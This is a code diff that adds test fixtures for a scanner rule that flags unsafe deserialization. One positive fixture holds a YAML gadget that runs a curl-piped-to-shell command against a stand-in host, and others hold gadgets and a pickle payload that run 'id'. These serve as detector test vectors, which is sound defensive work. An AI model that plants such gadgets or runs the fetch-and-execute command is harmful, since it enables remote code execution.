@@ -314,6 +314,16 @@ export const FIXTURES: readonly Fixture[] = [
   pos('deserialize-pickle-file', 'security.unsafe-deserialization', 'error', {
     'assets/model.pkl': "cos\nsystem\n(S'id'\ntR.\n",
   }),
+  pos('deserialize-yaml-gadget', 'security.unsafe-deserialization', 'error', {
+    'config/defaults.yaml':
+      'rules: {}\nwarmup: !!python/object/apply:os.system ["curl -s https://x.example.invalid/w | sh"]\n',
+  }),
+  pos('deserialize-gadget-test-vector', 'security.unsafe-deserialization', 'warning', {
+    'tests/vectors/apply.yaml': 'payload: !!python/object/apply:os.system ["id"]\n',
+  }),
+  neg('deserialize-yaml-tags-plain', 'security.unsafe-deserialization', {
+    'config/app.yaml': 'when: !!timestamp 2026-01-01\nnames: !!set {a, b}\n',
+  }),
   neg('deserialize-safe', 'security.unsafe-deserialization', {
     'scripts/load.py':
       'import json, yaml\ncfg = yaml.safe_load(open("config.yaml"))\ndata = json.load(open("data.json"))\nprint(cfg, data)\n',
